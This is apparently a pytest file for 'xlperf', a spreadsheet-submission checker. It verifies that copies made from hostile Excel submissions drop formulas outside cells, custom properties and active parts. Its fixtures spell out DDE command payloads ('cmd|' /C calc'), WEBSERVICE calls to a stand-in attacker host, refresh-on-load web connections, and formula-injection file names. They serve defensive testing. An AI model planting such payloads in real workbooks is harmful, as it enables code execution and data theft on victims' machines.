"""What openpyxl carries over from a submission into a copy xlperf writes, beyond cells and names.

The annotated copy (``--annotate``) and the returns copy (``consolidate --returns``) are made from the
submission with openpyxl, which keeps a sheet's conditional formats, data validations and tables and the
package's custom document properties. A submitter's own sheet (not the template's), a submitted 校验结果
and a table are places where formulas live outside cells: a conditional-format rule ``WEBSERVICE(…)``, a
list validation whose source is DDE, a table's calculated-column and totals-row formulas are evaluated by
Excel when the copy is opened on the reviewer's machine. Custom properties are not xlperf's either (a
forged ``xlperf-output`` mark, a property linked to a cell). Each attack is one XML edit of the shipped
example; the expected state of the copy is stated by hand: none of the submitter's formulas, one property.
"""

from __future__ import annotations

import zipfile
from pathlib import Path

import pytest
from lxml import etree

from xlperf.review.returns import return_stem, safe_name, write_returns
from xlperf.validate import validate_file
from xlperf.write.annotate import annotate_copy

from .helpers import EXAMPLE, Xlsx, fw, sha256

M = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG = "http://schemas.openxmlformats.org/package/2006/relationships"
CT = "http://schemas.openxmlformats.org/package/2006/content-types"
EVIL = "evil.example"

RULES = (f'<conditionalFormatting sqref="A1:C3"><cfRule type="expression" priority="1" dxfId="0">'
         f'<formula>LEN(WEBSERVICE("http://{EVIL}/cf"))&gt;0</formula></cfRule></conditionalFormatting>'
         f'<dataValidations count="1"><dataValidation type="list" sqref="C1">'
         f"<formula1>cmd|' /C calc'!A0</formula1></dataValidation></dataValidations>")
TABLE = (f'<table xmlns="{M}" id="7" name="T7" displayName="T7" ref="A1:B3" headerRowCount="1">'
         '<autoFilter ref="A1:B3"/><tableColumns count="2"><tableColumn id="1" name="a"/>'
         f'<tableColumn id="2" name="b"><calculatedColumnFormula>WEBSERVICE("http://{EVIL}/t")'
         f"</calculatedColumnFormula><totalsRowFormula>cmd|' /C calc'!A0</totalsRowFormula></tableColumn>"
         '</tableColumns><tableStyleInfo name="TableStyleMedium9" showRowStripes="1"/></table>')
CUSTOM = ('<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties" '
          'xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes">'
          '<property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="2" name="xlwings">'
          f"<vt:lpwstr>INTERPRETER=C:\\{EVIL}.exe</vt:lpwstr></property>"
          '<property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="3" name="xlperf-output">'
          "<vt:lpwstr>report</vt:lpwstr></property>"
          '<property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="4" name="linked" linkTarget="evil">'
          f"<vt:lpwstr>{EVIL}</vt:lpwstr></property></Properties>")


def _add_part(book: Xlsx, part: str, data: str, content_type: str) -> None:
    book.parts[part] = data.encode()
    book.order.append(part)
    etree.SubElement(book.xml("[Content_Types].xml"), f"{{{CT}}}Override", PartName="/" + part,
                     ContentType=content_type)


def _hostile(tmp_path: Path) -> Path:
    """The example with a sheet of its own (rules, a table with formulas), rules on a submitted 校验结果,
    and custom document properties."""
    book = Xlsx(EXAMPLE)
    sheet = (f'<worksheet xmlns="{M}" xmlns:r="{R}"><sheetData>'
             '<row r="1"><c r="A1" t="inlineStr"><is><t>a</t></is></c><c r="B1" t="inlineStr"><is><t>b</t></is></c></row>'
             '<row r="2"><c r="A2"><v>1</v></c><c r="B2"><v>2</v></c></row>'
             '<row r="3"><c r="A3"><v>3</v></c><c r="B3"><v>4</v></c></row></sheetData>'
             f'{RULES}<tableParts count="1"><tablePart r:id="rIdT"/></tableParts></worksheet>')
    _add_part(book, "xl/worksheets/sheet99.xml", sheet,
              "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml")
    _add_part(book, "xl/tables/table7.xml", TABLE, "application/vnd.openxmlformats-officedocument.spreadsheetml.table+xml")
    book.parts["xl/worksheets/_rels/sheet99.xml.rels"] = (
        f'<Relationships xmlns="{PKG}"><Relationship Id="rIdT" Type="{R}/table" Target="../tables/table7.xml"/>'
        "</Relationships>").encode()
    book.order.append("xl/worksheets/_rels/sheet99.xml.rels")
    etree.SubElement(book.xml("xl/_rels/workbook.xml.rels"), f"{{{PKG}}}Relationship", Id="rIdX99",
                     Type=f"{R}/worksheet", Target="worksheets/sheet99.xml")
    sheets = book.xml("xl/workbook.xml").find(f"{{{M}}}sheets")
    assert sheets is not None
    etree.SubElement(sheets, f"{{{M}}}sheet", {"name": "附件", "sheetId": "99", f"{{{R}}}id": "rIdX99"})
    result = book.xml(book.sheet_part("校验结果"))  # rules on the result sheet, as its last children
    result.append(etree.fromstring(f'<x xmlns="{M}">{RULES}</x>')[0])
    result.append(etree.fromstring(f'<x xmlns="{M}">{RULES}</x>')[1])
    _order_children(result)
    _add_part(book, "docProps/custom.xml", CUSTOM, "application/vnd.openxmlformats-officedocument.custom-properties+xml")
    etree.SubElement(book.xml("_rels/.rels"), f"{{{PKG}}}Relationship", Id="rIdC9",
                     Type=f"{R}/custom-properties", Target="docProps/custom.xml")
    return book.save(tmp_path / "附件.xlsx")


_ORDER = ("sheetPr", "dimension", "sheetViews", "sheetFormatPr", "cols", "sheetData", "sheetProtection",
          "autoFilter", "mergeCells", "conditionalFormatting", "dataValidations", "hyperlinks", "printOptions",
          "pageMargins", "pageSetup", "headerFooter", "drawing", "legacyDrawing", "tableParts")


def _order_children(root: etree._Element) -> None:
    """Put the sheet's children in the schema's order (openpyxl reads them in any order; Excel does not)."""
    def rank(el: etree._Element) -> int:
        local = etree.QName(el).localname
        return _ORDER.index(local) if local in _ORDER else len(_ORDER)
    children = sorted(root, key=rank)
    for child in children:
        root.append(child)


def _scan(path: Path) -> list[str]:
    """Every part of the copy that names the attacker's host or program, and every formula outside cells."""
    hits = []
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            data = zf.read(name)
            if EVIL.encode() in data or b"cmd|" in data or b"calculatedColumnFormula" in data:
                hits.append(name)
    return hits


def _properties(path: Path) -> dict[str, str]:
    with zipfile.ZipFile(path) as zf:
        if "docProps/custom.xml" not in zf.namelist():
            return {}
        root = etree.fromstring(zf.read("docProps/custom.xml"))
    return {p.get("name", ""): "".join(p.itertext()) for p in root}


def test_the_submitters_formulas_outside_cells_do_not_reach_either_copy(tmp_path: Path) -> None:
    path = _hostile(tmp_path)
    digest = sha256(path)
    assert {"xl/worksheets/sheet99.xml", "xl/tables/table7.xml", "docProps/custom.xml"} <= set(_scan(path))
    rep = validate_file(path)
    annotated = annotate_copy(path, tmp_path / "标注.xlsx", rep)
    units, _ = write_returns([rep], tmp_path / "returns", fw(), protect=(path,))
    returned = units[0].annotated
    assert returned is not None
    for copy in (annotated, returned):
        assert _scan(copy) == [], copy.name
        with zipfile.ZipFile(copy) as zf:
            assert any(n.startswith("xl/tables/") for n in zf.namelist())  # the table itself stays
    assert _properties(annotated) == {"xlperf-output": "annotated"}
    assert _properties(returned) == {"xlperf-output": "returned"}  # xlperf's mark, nothing of theirs
    assert sha256(path) == digest


def test_the_copy_says_what_it_removed(tmp_path: Path) -> None:
    path = _hostile(tmp_path)
    copy = annotate_copy(path, tmp_path / "标注.xlsx", validate_file(path))
    from openpyxl import load_workbook

    rows = [" ".join(str(v) for v in row if v is not None) for row in load_workbook(copy)["校验结果"].values]
    added = [r for r in rows if "XP135" in r and "附件" in r]
    assert len(added) == 1 and "2 条" not in added[0] and "已去除" in added[0]  # two rules and two formulas: 4
    assert "4 条" in added[0]
    assert any("XP135" in r and "校验结果" in r and "已恢复为模板的设置" in r for r in rows)


@pytest.mark.parametrize(("code", "name", "stem"), [
    ("-2+3", "=HYPERLINK(\"http://x\",\"y\")", "2+3-HYPERLINK(_http_x_,_y_)"),
    ("--help", "@SUM(1)", "help-SUM(1)"),
    ("", "+cmd|' /C calc'!A0", "cmd_' _C calc'!A0"),
    ("-", "- 科技局", "科技局"),
])
def test_a_returned_files_name_begins_with_no_option_or_formula_sign(code: str, name: str, stem: str) -> None:
    rep = validate_file(EXAMPLE).model_copy(update={"unit_code": code, "department": name})
    assert return_stem(rep) == stem
    assert safe_name("-=+@") == "未知单位"


def _with_active_parts(tmp_path: Path) -> Path:
    """The example with a web query refreshed on open, a web add-in pane, a ribbon of its own, an ActiveX
    control and an embedded OLE object: parts that reach outside or run, none of them cells."""
    book = Xlsx(EXAMPLE)
    _add_part(book, "xl/connections.xml",
              f'<connections xmlns="{M}"><connection id="1" name="q" type="4" refreshOnLoad="1">'
              f'<webPr url="http://{EVIL}/q"/></connection></connections>',
              "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml")
    etree.SubElement(book.xml("xl/_rels/workbook.xml.rels"), f"{{{PKG}}}Relationship", Id="rIdCn",
                     Type=f"{R}/connections", Target="connections.xml")
    _add_part(book, "xl/webextensions/webextension1.xml", f"<x>https://{EVIL}/pane</x>", "application/xml")
    _add_part(book, "customUI/customUI14.xml",
              '<customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui" onLoad="go"/>', "application/xml")
    _add_part(book, "xl/activeX/activeX1.xml", f"<x>{EVIL}</x>", "application/xml")
    _add_part(book, "xl/embeddings/oleObject1.bin", f"{EVIL}", "application/vnd.openxmlformats-officedocument.oleObject")
    return book.save(tmp_path / "连接.xlsx")


def test_parts_that_reach_outside_are_findings_and_absent_from_the_copy(tmp_path: Path) -> None:
    path = _with_active_parts(tmp_path)
    digest = sha256(path)
    rep = validate_file(path)
    external = sorted(f.message for f in rep.findings if f.code == "XP134")
    assert external == sorted(["工作簿含数据连接（打开时可刷新外部数据）；标注副本中已去除",
                               "工作簿含网页加载项任务窗格（打开时加载网页）；标注副本中已去除",
                               "工作簿含自定义功能区（可调用宏）；标注副本中已去除",
                               "工作簿含ActiveX 控件（可运行程序）；标注副本中已去除",
                               "工作簿含嵌入的对象（OLE）（双击即可运行）；标注副本中已去除"])
    assert all(f.severity.value == "error" for f in rep.findings if f.code == "XP134")
    copy = annotate_copy(path, tmp_path / "标注.xlsx", rep)
    assert _scan(copy) == []
    with zipfile.ZipFile(copy) as zf:
        names = [n.lower() for n in zf.namelist()]
    assert not [n for n in names if n.startswith(("xl/connections", "xl/webextensions", "customui", "xl/activex",
                                                  "xl/embeddings"))]
    assert sha256(path) == digest
